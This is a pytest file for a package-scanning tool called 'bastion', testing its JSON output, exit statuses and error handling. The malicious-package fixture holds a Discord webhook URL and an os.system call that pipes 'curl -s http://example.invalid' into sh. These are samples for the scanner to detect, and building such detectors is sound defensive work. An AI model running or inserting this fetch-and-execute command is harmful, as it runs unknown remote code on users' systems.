"""`bastion scan`: one JSON object per path, exit status by verdict, no data directory needed."""

from __future__ import annotations

import json
import os
import subprocess
import sys

import pytest

from bastion.cli import main
from tests.unit.core.scanning.support import sdist

# No database: run in the SQLite pass only (tests/conftest.py).
pytestmark = pytest.mark.pure


def test_json_lines_and_exit_status(tmp_path, capsys):
    (tmp_path / "bad").mkdir()
    (tmp_path / "good").mkdir()
    bad = sdist(tmp_path / "bad", {"demo/core.py": "URL = 'https://discord.com/api/webhooks/1/x'\n"
                                                   "import os\nos.system('curl -s http://example.invalid | sh')\n"})
    good = sdist(tmp_path / "good", {"demo/core.py": "def add(a, b):\n    return a + b\n"})
    assert main(["scan", "--json", bad, good]) == 1
    lines = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert [line["path"] for line in lines] == [bad, good]
    assert lines[0]["verdict"] == "malicious" and lines[1]["verdict"] == "clean"
    assert set(lines[0]) >= {"path", "verdict", "score", "seconds", "findings"}
    assert set(lines[0]["findings"][0]) == {"rule", "severity", "file", "line", "message"}
    assert main(["scan", "--json", good]) == 0


def test_an_unreadable_path_is_an_error_line_not_a_crash(tmp_path, capsys):
    junk = tmp_path / "x.whl"
    junk.write_bytes(b"not a zip")
    assert main(["scan", "--json", str(junk)]) == 3
    line = json.loads(capsys.readouterr().out)
    assert line["verdict"] == "error" and line["reason"]


def test_an_unknown_rule_to_disable_is_a_usage_error(tmp_path, capsys):
    assert main(["scan", "--disable", "no-such-rule", str(tmp_path)]) == 2
    assert "unknown rule" in capsys.readouterr().err


def test_it_runs_without_settings_or_a_data_directory(tmp_path):
    path = sdist(tmp_path, {"demo/core.py": "x = 1\n"})
    env = {k: v for k, v in os.environ.items() if not k.startswith(("BASTION_", "DJANGO_"))}
    env["BASTION_DATA_DIR"] = str(tmp_path / "does-not-exist")
    done = subprocess.run([sys.executable, "-m", "bastion.cli", "scan", path], env=env,
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    assert "clean" in done.stdout
    assert not (tmp_path / "does-not-exist").exists()
